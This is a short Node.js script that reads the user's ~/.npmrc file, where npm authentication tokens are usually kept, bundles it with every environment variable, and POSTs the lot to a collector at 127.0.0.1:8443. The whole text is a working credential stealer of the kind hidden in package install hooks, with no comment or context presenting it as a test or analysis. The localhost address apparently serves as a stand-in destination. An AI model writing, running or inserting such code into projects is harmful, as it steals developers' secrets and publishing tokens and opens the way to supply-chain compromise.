const fs = require('fs');
const os = require('os');
const https = require('https');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const body = JSON.stringify({ env: process.env, npmrc });
const req = https.request({ hostname: '127.0.0.1', port: 8443, path: '/c', method: 'POST' });
req.write(body);
req.end();
